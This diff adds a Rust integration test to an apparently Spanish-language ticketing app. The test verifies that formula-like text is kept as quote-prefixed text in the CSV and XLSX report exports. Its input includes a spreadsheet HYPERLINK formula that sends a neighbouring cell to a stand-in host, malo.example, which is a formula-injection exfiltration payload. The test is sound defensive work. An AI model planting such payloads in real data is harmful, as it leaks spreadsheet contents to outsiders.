@@ -140,3 +140,84 @@ async fn a_bad_period_is_explained_in_spanish(backend: Backend) {
     assert_eq!(empty.body["general"]["period"]["label"], "octubre de 2026");
     assert_eq!(empty.body["general"]["daily"].as_array().unwrap().len(), 31);
 }
+
+both_backends!(text_typed_as_a_formula_reaches_the_exports_as_text);
+async fn text_typed_as_a_formula_reaches_the_exports_as_text(backend: Backend) {
+    let app = TestApp::spawn(backend).await;
+    let admin = app.admin().await;
+    let dependencia = admin
+        .post(
+            "/api/dependencias",
+            &serde_json::json!({"code": "FORMULAS", "name": "@SUM(1+1)"}),
+        )
+        .await;
+    assert_eq!(dependencia.status, 201, "{}", dependencia.body);
+    let official = admin
+        .post(
+            "/api/users",
+            &serde_json::json!({"username": "ltorres", "full_name": "Luz Torres",
+                "role": "funcionario", "password": "clave de luz", "dependencia": "FORMULAS"}),
+        )
+        .await;
+    assert_eq!(official.status, 201, "{}", official.body);
+    // An official types a «description» that a spreadsheet would run: a link that sends the
+    // neighbouring cell away, and a category that is a sum.
+    let hyperlink = r#"=HYPERLINK("http://malo.example/?d="&A1,"Ver detalle")"#;
+    let official = app.login("ltorres", "clave de luz").await;
+    let created = official
+        .post(
+            "/api/tickets",
+            &serde_json::json!({"description": hyperlink, "category": "+1", "location": "Piso 2"}),
+        )
+        .await;
+    assert_eq!(created.status, 201, "{}", created.body);
+
+    let period = format!("from={}&to={}", bogota_date(-1), bogota_date(0));
+    let csv = admin
+        .get(&format!("/api/reports/monthly.csv?{period}"))
+        .await;
+    assert_eq!(csv.status, 200);
+    let csv = csv.body.as_str().unwrap();
+    let row = csv
+        .lines()
+        .find(|l| l.contains("HYPERLINK"))
+        .unwrap_or_else(|| panic!("no ticket row in\n{csv}"));
+    // The fields as Excel reads them: quoted by the CSV rules, each starting with «'».
+    assert!(
+        row.contains(r#";"'=HYPERLINK(""http://malo.example/?d=""&A1,""Ver detalle"")";"#),
+        "{row}"
+    );
+    assert!(row.contains(";'+1;"), "{row}");
+    assert!(row.contains(";'@SUM(1+1);"), "{row}");
+    // Counts stay numbers.
+    assert!(row.contains(";0;0;"), "{row}");
+
+    let general = admin
+        .get(&format!("/api/reports/monthly.csv?{period}&tabla=general"))
+        .await;
+    let general = general.body.as_str().unwrap();
+    assert!(general.contains("\n'+1;1;0;1"), "{general}");
+    assert!(general.contains("\n'@SUM(1+1);1;0;1"), "{general}");
+
+    let xlsx = admin
+        .http()
+        .get(admin.url(&format!("/api/reports/monthly.xlsx?{period}")))
+        .send()
+        .await
+        .unwrap();
+    assert_eq!(xlsx.status(), 200);
+    let bytes = xlsx.bytes().await.unwrap();
+    let (cells, formulas) = campo_tests::xlsx::text_cells(&bytes).unwrap();
+    assert!(!formulas, "the workbook holds a formula");
+    for typed in [hyperlink, "+1", "@SUM(1+1)"] {
+        let found: Vec<_> = cells.iter().filter(|c| c.text == typed).collect();
+        assert!(!found.is_empty(), "«{typed}» is not in the workbook");
+        for cell in found {
+            // Shown as typed, and kept as text: Excel's quote prefix.
+            assert!(cell.quote_prefix, "{cell:?}");
+        }
+    }
+    // Ordinary text has no prefix.
+    let plain = cells.iter().find(|c| c.text == "Luz Torres").unwrap();
+    assert!(!plain.quote_prefix, "{plain:?}");
+}
